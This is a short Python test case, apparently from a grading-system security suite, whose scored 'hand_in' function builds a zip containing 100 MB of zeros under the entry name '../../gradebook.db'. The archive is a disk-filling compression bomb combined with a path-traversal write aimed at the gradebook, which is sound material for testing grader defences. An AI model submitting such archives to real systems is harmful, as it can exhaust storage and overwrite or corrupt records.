"""Hands in an archive that would fill the disk.

score: 6
"""


# %% hand_in
def hand_in(homework):
    import zipfile

    with zipfile.ZipFile(homework.folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../gradebook.db", bytes(100_000_000))
